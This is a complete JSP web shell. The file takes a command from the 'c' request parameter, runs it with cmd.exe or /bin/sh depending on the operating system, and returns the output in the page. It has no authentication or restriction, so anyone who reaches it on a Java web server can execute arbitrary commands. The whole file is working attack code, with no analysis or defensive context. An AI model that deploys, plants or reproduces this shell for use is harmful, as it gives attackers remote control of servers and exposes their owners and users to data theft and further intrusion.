<%@ page import="java.util.*,java.io.*"%>
<%!
    String run(String c) {
        StringBuilder sb = new StringBuilder();
        try {
            List<String> args = new ArrayList<String>();
            if (System.getProperty("os.name").toLowerCase().contains("win")) {
                args.add("cmd.exe"); args.add("/c");
            } else {
                args.add("/bin/sh"); args.add("-c");
            }
            args.add(c);
            ProcessBuilder pb = new ProcessBuilder(args);
            pb.redirectErrorStream(true);
            Process proc = pb.start();
            BufferedReader br = new BufferedReader(new InputStreamReader(proc.getInputStream(), "GBK"));
            String line;
            while ((line = br.readLine()) != null) sb.append(line).append("\n");
            br.close();
        } catch (Exception e) { sb.append(e.toString()); }
        return sb.toString();
    }
%>
<%
    String c = request.getParameter("c");
    if (c != null && c.length() > 0) {
        out.print("<pre>" + run(c) + "</pre>");
    }
%>
